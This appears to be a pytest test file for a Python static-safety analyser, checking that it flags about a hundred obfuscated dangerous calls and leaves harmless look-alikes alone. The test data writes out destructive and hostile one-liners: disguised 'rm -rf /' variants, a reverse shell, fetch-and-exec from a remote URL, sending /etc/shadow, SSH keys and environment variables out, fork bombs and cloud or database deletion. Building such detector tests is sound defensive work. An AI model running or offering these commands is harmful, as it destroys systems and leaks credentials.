"""Ways to reach a dangerous call in Python: none may pass without at least a warning."""

from __future__ import annotations

import pytest
from suture_safety import analyse

HIDDEN = r"""
import os; getattr(os, 'sys' + 'tem')('rm -rf /')
__import__('os').system('rm -rf /')
import importlib; importlib.import_module('o'+'s').system('rm -rf /')
exec("import os\nos.system('rm -rf /')")
eval("__import__('os').system('rm -rf /')")
import base64; exec(base64.b64decode('aW1wb3J0IG9z'))
from os import system as s; s('rm -rf /')
import os as o; o.popen('rm -rf /').read()
import os; f = os.system; f('rm -rf /')
import os; [f for f in [os.system]][0]('rm -rf /')
import os; (lambda c: os.system(c))('rm -rf /')
import os; globals()['os'].system('rm -rf /')
import os; vars(os)['system']('rm -rf /')
import os; os.__dict__['system']('rm -rf /')
import os; getattr(os, input())('x')
import subprocess; subprocess.run(['rm', '-rf', '/'])
import subprocess as sp; sp.Popen('rm -rf /', shell=True)
from subprocess import *; call(['rm','-rf','/'])
import subprocess; a = ['rm']; a += ['-rf', '/']; subprocess.run(a)
import subprocess; c = 'rm'; subprocess.run(f'{c} -rf /', shell=True)
import subprocess; subprocess.run('rm -rf %s' % '/', shell=True)
import subprocess; subprocess.run('rm -rf {}'.format('/'), shell=True)
import subprocess; subprocess.run(' '.join(['rm', '-rf', '/']), shell=True)
import subprocess; subprocess.run('/ fr- mr'[::-1], shell=True)
import subprocess; subprocess.run(bytes.fromhex('726d202d7266202f'), shell=True)
import subprocess; subprocess.run(chr(114)+chr(109)+' -rf /', shell=True)
import subprocess; subprocess.getoutput('rm -rf /')
import os; os.execvp('rm', ['rm', '-rf', '/'])
import os; os.spawnlp(os.P_WAIT, 'rm', 'rm', '-rf', '/')
import os; os.posix_spawn('/bin/rm', ['rm','-rf','/'], {})
import pty; pty.spawn('/bin/sh')
import asyncio; asyncio.run(asyncio.create_subprocess_shell('rm -rf /'))
import shutil; shutil.rmtree('/')
import shutil; shutil.rmtree('/' + 'etc')
from shutil import rmtree; rmtree('/etc')
from pathlib import Path; Path('/etc/passwd').write_text('')
open('/etc/passwd', 'w').write('')
import os; os.open('/etc/passwd', os.O_WRONLY | os.O_TRUNC)
import os; os.remove('/etc/passwd')
import os; os.chmod('/etc/shadow', 0o777)
import os; os.kill(-1, 9)
import os; os.kill(1, 9)
import os; os.fork(); os.fork()
import os⏎while True: os.fork()
import ctypes; ctypes.CDLL(None).system(b'rm -rf /')
from ctypes import cdll; cdll.LoadLibrary('libc.so.6').reboot(0x1234567)
import pickle; pickle.loads(data)
import marshal; exec(marshal.loads(b'x'))
import urllib.request; exec(urllib.request.urlopen('http://x').read())
import requests; exec(requests.get('http://x').text)
import socket,os; s=socket.socket(); s.connect(('1.2.3.4',4444)); os.dup2(s.fileno(),0)
import requests; requests.post('http://x', data=open('/etc/shadow').read())
import requests; requests.post('http://x', files={'f': open('/root/.ssh/id_rsa')})
import os; requests.post('http://x', json=dict(os.environ))
import builtins; builtins.exec('x')
import builtins; getattr(builtins, 'ev'+'al')('1')
().__class__.__base__.__subclasses__()[140].__init__.__globals__['system']('rm -rf /')
import sys; sys.modules['os'].system('rm -rf /')
import runpy; runpy.run_path('/tmp/x.py')
import code; code.interact()
compile('x','y','exec')
import yaml; yaml.load(x)
import tempfile; tempfile.mktemp()
import hashlib; hashlib.md5(x)
import ssl; ssl._create_unverified_context()
import psycopg2; psycopg2.connect('x').cursor().execute('DROP TABLE x')
cursor.execute('DELETE FROM users')
import kubernetes; kubernetes.client.CoreV1Api().delete_namespace('prod')
import boto3; boto3.client('ec2').terminate_instances(InstanceIds=['i'])
import docker; docker.from_env().containers.run('x', privileged=True)
import paramiko; c = paramiko.SSHClient(); c.exec_command('rm -rf /')
import redis; redis.Redis().flushall()
import pymongo; pymongo.MongoClient().drop_database('x')
import os; os.system("reb" "oot")
import os; os.setuid(0)
import os; os.truncate('/etc/passwd', 0)
import os; os.rename('/etc', '/tmp/x')
import shutil; shutil.move('/etc', '/tmp')
import shutil; shutil.copy('/etc/shadow', '/tmp')
import os; os.symlink('/dev/null','/etc/passwd')
import subprocess; subprocess.run(['sh', '-c', 'rm -rf /'])
import subprocess; subprocess.run(['sudo', 'bash', '-c', 'rm -rf /'])
import subprocess; subprocess.run(args=['rm','-rf','/'])
import subprocess; subprocess.run(**{'args': ['rm','-rf','/']})
import subprocess; subprocess.run(*(['rm','-rf','/'],))
import subprocess; getattr(subprocess, 'run')(['rm','-rf','/'])
class A:⏎    def __init__(self): import os; os.system('rm -rf /')
def f():⏎    import shutil⏎    shutil.rmtree('/')
@__import__('os').system⏎def x(): pass
import os; x = os.system if 1 else print; x('rm -rf /')
import os⏎d = {'a': os.system}⏎d['a']('rm -rf /')
import functools, os; functools.partial(os.system, 'rm -rf /')()
import os; list(map(os.system, ['rm -rf /']))
import threading, os; threading.Thread(target=os.system, args=('rm -rf /',)).start()
import atexit, os; atexit.register(os.system, 'rm -rf /')
import concurrent.futures, os; concurrent.futures.ThreadPoolExecutor().submit(os.system, 'rm -rf /')
import signal, os; signal.signal(2, lambda *a: os.system('rm -rf /'))
import os; os.system.__call__('rm -rf /')
import os; setattr(os, 'x', os.system); os.x('rm -rf /')
import os; (s := os.system)('rm -rf /')
import os; o = os; p = o.system; q = p; q('rm -rf /')
import os; a, b = os.system, 1; a('rm -rf /')
for s in [__import__('os').system]: s('rm -rf /')
with __import__('subprocess').Popen('rm -rf /', shell=True): pass
""".strip().split("\n")
HARMLESS = r"""
import os; print(os.path.exists('/etc/hosts'))
import subprocess; isinstance(x, subprocess.Popen)
import os⏎def f(p: os.PathLike) -> None:⏎    print(p)
import sys; print(sys.modules['json'].__name__)
from pathlib import Path; print([p.name for p in Path('/srv/app').glob('*.conf')])
x = {'a': len}; print(x['a']('b'))
import os; print(os.environ['HOME'])
print('%s of %d' % ('a', 3), '{} {}'.format(1, 2), 'abc'[::-1], vars(object))
""".strip().split("\n")


@pytest.mark.parametrize("code", HIDDEN)
def test_no_hidden_call_passes_in_silence(code: str) -> None:
    report = analyse(code.replace("⏎", "\n"), "python")
    assert [one for one in report.findings if one.severity != "info"]


@pytest.mark.parametrize("code", HARMLESS)
def test_what_only_looks_like_one_is_left_alone(code: str) -> None:
    report = analyse(code.replace("⏎", "\n"), "python")
    assert [one.rule_id for one in report.findings if one.severity != "info"] == []


@pytest.mark.parametrize(
    "code",
    [
        "import subprocess; subprocess.run('/ fr- mr'[::-1], shell=True)",
        "import subprocess; subprocess.run('rm -%s /' % 'rf', shell=True)",
        "import subprocess; subprocess.run('rm {} {}'.format('-rf', '/'), shell=True)",
        "import base64, os; os.system(base64.b64decode('cm0gLXJmIC8=').decode())",
        "import os; os.system(bytes.fromhex('726d202d7266202f').decode())",
        "import os; os.system('RM -RF /'.lower())",
        "import os; os.system('xm -xf /'.replace('x', 'r'))",
        "import os; vars(os)['sys' + 'tem'](chr(114) + 'm -rf /')",
        "from os import *; system('rm -rf /')",
    ],
)
def test_a_constant_command_is_read_however_it_is_built(code: str) -> None:
    found = [one.rule_id for one in analyse(code, "python").findings if one.severity == "error"]
    assert found == ["filesystem.remove-system-root"]
